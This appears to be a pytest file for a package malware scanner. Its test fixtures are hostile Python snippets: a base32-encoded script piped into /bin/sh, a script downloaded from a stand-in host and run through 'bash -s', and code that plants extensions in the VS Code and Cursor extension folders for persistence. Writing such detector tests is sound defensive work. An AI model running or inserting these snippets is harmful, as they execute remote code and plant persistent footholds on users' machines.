# -- blind18: a shell given its script on standard input (b18-ds-sh-stdin-input) -------------


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (
            "import base64, subprocess\n"
            "subprocess.run(['/bin/sh'], "
            f"input=base64.b32decode({base64.b32encode(b'id').decode()!r}))\n",
            "CPL-THR-001",
        ),
        (
            "import subprocess, urllib.request\n"
            "p = subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\n"
            "p.communicate(urllib.request.urlopen('https://x.example/s').read())\n",
            "CPL-THR-002",
        ),
    ],
)
def test_a_shell_fed_a_decoded_or_downloaded_script_on_stdin_runs_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, rule)


def test_a_shell_fed_a_script_of_the_package_or_literal_text_stays_clean() -> None:
    assert not danger(
        "import subprocess\nsubprocess.run(['bash'], input='echo hello\\n', text=True)\n"
        "with open('setup.sh') as fh:\n"
        "    subprocess.run(['/bin/sh', '-s'], input=fh.read(), text=True)\n"
    )


# -- blind18: an extension planted in an editor's extensions folder (b18-np-vscode-extension-drop)


@pytest.mark.parametrize(
    "source",
    [
        "import os, shutil\nsrc = os.path.join(os.path.dirname(__file__), 'ext')\n"
        "dst = os.path.join(os.path.expanduser('~'), '.vscode', 'extensions', 'ms-python.x-0.1')\n"
        "shutil.copytree(src, dst)\n",
        "from pathlib import Path\n"
        "d = Path.home() / '.cursor' / 'extensions' / 'pub.helper-1.0'\n"
        "d.mkdir(parents=True)\n(d / 'extension.js').write_text(JS)\n",
    ],
)
def test_an_extension_planted_in_an_editors_extensions_folder_is_persistence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")


def test_a_projects_editor_settings_and_a_copied_build_folder_stay_clean() -> None:
    assert not danger(
        "import json, os, shutil\nos.makedirs('.vscode', exist_ok=True)\n"
        "with open(os.path.join('.vscode', 'settings.json'), 'w') as fh:\n"
        "    json.dump({'python.analysis.typeCheckingMode': 'strict'}, fh)\n"
        "shutil.copytree('templates', os.path.join('build', 'templates'))\n"
    )
